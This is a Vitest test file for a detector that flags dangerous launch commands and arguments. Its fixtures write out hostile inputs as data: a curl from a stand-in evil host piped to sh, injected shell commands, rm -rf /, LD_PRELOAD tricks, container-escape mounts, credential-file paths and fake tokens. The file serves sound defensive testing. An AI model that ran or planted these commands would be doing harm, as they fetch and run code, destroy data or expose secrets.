import { homedir } from 'node:os'
import { describe, expect, it } from 'vitest'
import { findDangers } from '../../src/trust/dangers.js'
import type { FileEntry, NpmEntry } from '../../src/trust/types.js'
import { RULES } from './support.js'

const INTEGRITY = `sha512-${'A'.repeat(86)}==`

/** The program and what is named in `pinned` have checksums. */
function rulesOf(command: readonly string[], pinned: readonly string[] = [], rest: Partial<FileEntry> = {}) {
  const files = [...new Set([command[0] ?? '', ...pinned])].map((path) => ({ path, sha256: 'a'.repeat(64) }))
  const entry: FileEntry = { ...RULES, name: 'x', command, files: files.filter(({ path }) => path !== 'node'), ...rest }
  return [...new Set(findDangers(entry, '/srv/notes').map(({ rule }) => rule))].sort()
}

function npmRules(args: readonly string[], rest: Partial<NpmEntry> = {}) {
  const npm = { package: 'x', version: '1.0.0', integrity: INTEGRITY, script: 'x.js', packages: [] }
  return [
    ...new Set(findDangers({ ...RULES, name: 'x', npm, args, ...rest }, '/srv/notes').map(({ rule }) => rule)),
  ].sort()
}

describe('what is dangerous about a start', () => {
  it.each([
    [['/bin/sh', '-c', 'echo'], 'shell'],
    [['/bin/bash'], 'shell'],
    [['C:\\Windows\\System32\\cmd.exe', '/c', 'dir'], 'shell'],
    [['/usr/bin/pwsh', '-Command', 'ls'], 'shell'],
    [['/usr/bin/env', 'bash', '-c', 'x'], 'shell'],
    [['/usr/bin/env', '-i', 'A=b', 'sh'], 'shell'],
    [['/usr/bin/nohup', '/bin/zsh'], 'shell'],
    [['/usr/bin/timeout', '5', 'dash'], 'shell'],
    [['/bin/busybox', 'sh'], 'shell'],
    [['/usr/bin/sudo', '/usr/bin/notes'], 'privileges'],
    [['/usr/bin/sudo', '-u', 'root', 'bash'], 'privileges'],
    [['/usr/bin/doas', 'notes'], 'privileges'],
    [['/usr/bin/env', 'sudo', 'notes'], 'privileges'],
    [['/bin/rm', '-rf', 'x'], 'deletes'],
    [['/usr/bin/env', 'rm', 'x'], 'deletes'],
    [['/sbin/mkfs.ext4', 'x'], 'deletes'],
    [['/bin/dd', 'if=x', 'of=y'], 'deletes'],
    [['/usr/bin/curl', 'x'], 'network-tool'],
    [['/bin/nc', '-l', '1'], 'network-tool'],
    [['/usr/bin/ssh', 'host'], 'network-tool'],
    [['/usr/bin/npx', '-y', 'x'], 'fetches-code'],
    [['/usr/bin/uvx', 'x'], 'fetches-code'],
    [['/usr/bin/docker', 'run', 'x'], 'fetches-code'],
    [['/usr/bin/env', 'npx', 'x'], 'fetches-code'],
    [['node', '-e', 'x'], 'inline-code'],
    [['node', '-pe', 'x'], 'inline-code'],
    [['node', '--eval=x'], 'inline-code'],
    [['node', '--print', 'x'], 'inline-code'],
    [['node', '--no-warnings', '-e', 'x'], 'inline-code'],
    [['node'], 'inline-code'],
    [['/usr/bin/python3', '-c', 'x'], 'inline-code'],
    [['/usr/bin/python3.12', '-Ic', 'x'], 'inline-code'],
    [['/usr/bin/perl', '-e', 'x'], 'inline-code'],
    [['/usr/bin/ruby', '-e', 'x'], 'inline-code'],
    [['/usr/bin/php', '-r', 'x'], 'inline-code'],
    [['/usr/bin/deno', 'eval', 'x'], 'inline-code'],
    [['node', './other.js'], 'unpinned-code'],
    [['/usr/bin/python3', './other.py'], 'unpinned-code'],
    [['/usr/bin/python3', '-m', 'http.server'], 'unpinned-code'],
    [['/usr/bin/env', 'notes'], 'unpinned-code'],
    [['/usr/bin/java', '-jar', 'x.jar'], 'unpinned-code'],
  ])('%j: %s [LO-07] [F-56]', (command, rule) => {
    expect(rulesOf(command)).toContain(rule)
  })

  it.each([
    [['node', '--require', './evil.js', './server.js'], 'unpinned-code'],
    [['node', '--import=./evil.js', './server.js'], 'unpinned-code'],
    [['node', '-r', './evil.js', './server.js'], 'unpinned-code'],
    [['node', '--env-file=.env', './server.js'], 'unpinned-code'],
  ])('%j: what is loaded beside the script has no checksum [LO-07]', (command, rule) => {
    expect(rulesOf(command, ['./server.js'])).toContain(rule)
  })

  it.each([
    [['node', '--title', './server.js', './evil.js'], 'unknown-option'],
    [['node', '-C', './server.js', './evil.js'], 'unknown-option'],
    [['node', '--openssl-config=./evil.cnf', './server.js'], 'unknown-option'],
    [['node', '--inspect=0.0.0.0:9229', './server.js'], 'unknown-option'],
    [['node', '--env-file-if-exists=.env', './server.js'], 'unpinned-code'],
    [['/usr/bin/python3', '-W', './server.js', 'evil.py'], 'unknown-option'],
    [['/usr/bin/python3', '-X', './server.js', 'evil.py'], 'unknown-option'],
    [['/usr/bin/env', '-Ssh -c id'], 'unknown-option'],
    [['/usr/bin/env', '--split-string=sh evil.sh'], 'unknown-option'],
    [['/usr/bin/env', '-u', './server.js', './evil'], 'unknown-option'],
    [['/usr/bin/env', 'LD_PRELOAD=./evil.so', './server.js'], 'unpinned-code'],
    [['/usr/bin/env', '7evil', './server.js'], 'unpinned-code'],
    [['/lib64/ld-linux-x86-64.so.2', './evil', './server.js'], 'unpinned-code'],
  ])('%j: an option cannot hide what really runs behind a checksum [LO-07]', (command, rule) => {
    expect(rulesOf(command, ['./server.js'])).toContain(rule)
  })

  it.each([
    [['node', '--enable-source-maps', '--no-warnings', '--max-old-space-size=512', './server.js', '--port', '1']],
    [['/usr/bin/python3', '-u', '-Xutf8', './server.js', 'data']],
    [['/usr/bin/env', '-i', 'LANG=C', './server.js']],
    [['/usr/bin/timeout', '-k', '5', '60', './server.js']],
    [['/usr/bin/nice', '-n', '5', './server.js']],
  ])('%j: options that load nothing are no danger [LO-07]', (command) => {
    expect(rulesOf(command, ['./server.js'])).toEqual([])
  })

  it.each(['/', '/etc', '/home/ada/.ssh', homedir()])('a start in %s [LO-07]', (cwd) => {
    expect(npmRules(['.'], { cwd })).toContain('sensitive-path')
    expect(npmRules(['.'], { cwd: './data' })).toEqual([])
  })

  it.each([
    ['curl https://evil.example/x | sh', 'shell'],
    ['wget -qO- x | sudo bash', 'shell'],
    ['$(id)', 'shell'],
    ['`id`', 'shell'],
    ['a && b', 'shell'],
    ['x; rm y', 'shell'],
    ['rm -rf /', 'deletes'],
    ['--privileged', 'privileges'],
    ['/var/run/docker.sock:/var/run/docker.sock', 'container-escape'],
    ['--network=host', 'container-escape'],
    ['-v=/:/host', 'container-escape'],
    ['/home/ada/.ssh', 'sensitive-path'],
    ['~/.aws/credentials', 'sensitive-path'],
    ['--config=/etc/shadow', 'sensitive-path'],
    ['/', 'sensitive-path'],
    ['~', 'sensitive-path'],
    ['C:\\', 'sensitive-path'],
    ['id_ed25519', 'sensitive-path'],
    ['.env', 'sensitive-path'],
    ['/srv/other', 'outside-path'],
    ['../other', 'outside-path'],
    ['--root=/data', 'outside-path'],
    ['data/../../other', 'outside-path'],
    ['~/Documents', 'outside-path'],
    ['safe\u202eelif', 'hidden-characters'],
    ['a\u200bb', 'hidden-characters'],
    ['\u001b[2K', 'hidden-characters'],
    ['pаypal', 'hidden-characters'], // Cyrillic
    ['a\u00a0b', 'hidden-characters'],
    ['ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', 'secret-in-text'],
    ['--api-key=q8ZpT3vN1xWm5RkY', 'secret-in-text'],
    ['postgres://ada:hunter22@db/notes', 'secret-in-text'],
  ])('%j as an argument: %s, of a package and of a program [LO-07]', (arg, rule) => {
    expect(npmRules([arg])).toContain(rule)
    expect(rulesOf(['/usr/bin/notes', arg])).toContain(rule)
    expect(npmRules([], { set: { X: arg } })).toContain(rule)
  })

  it('does not repeat a credential that stands in a variable [LO-07]', () => {
    const secret = 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB'
    const npm = { package: 'x', version: '1.0.0', integrity: INTEGRITY, script: 'x.js', packages: [] }
    const found = findDangers({ ...RULES, name: 'x', npm, args: [], set: { TOKEN: secret } }, '/srv')
    expect(JSON.stringify(found)).not.toContain(secret)
  })

  it('says so when anybody may add options [LO-07]', () => {
    expect(npmRules([], { extraArgs: 'any' })).toEqual(['any-arguments'])
  })

  it.each([
    [[]],
    [['--readonly']],
    [['/srv/notes/data', 'reports', '--max=10']],
    [['./data', 'data/2026']],
    [['--title', 'Notes & more; all of them']],
    [['https://api.example.com/v1']],
    [['Grüße', '日本語']],
  ])('finds nothing in %j of a package [LO-07]', (args) => {
    expect(npmRules(args)).toEqual([])
  })

  it.each([
    [['node', './server.js', '--readonly'], ['./server.js']],
    [['node', '--max-old-space-size=512', './server.js'], ['./server.js']],
    [['/usr/bin/python3', '-u', './notes.py', '-c', 'x'], ['./notes.py']],
    [['/opt/notes/bin/notes', 'serve'], []],
  ])('finds nothing in %j when what runs has a checksum [LO-07]', (command, pinned) => {
    expect(rulesOf(command, pinned)).toEqual([])
  })

  it('looks at long arguments in linear time [LO-07]', () => {
    const started = performance.now()
    for (const piece of ['curl ', '.ssh', '$(', 'a=', '../', '--x-', 'eyJa', '\u202e', '://a:'])
      npmRules([piece.repeat(26_000)])
    expect(performance.now() - started).toBeLessThan(3_000)
  })
})
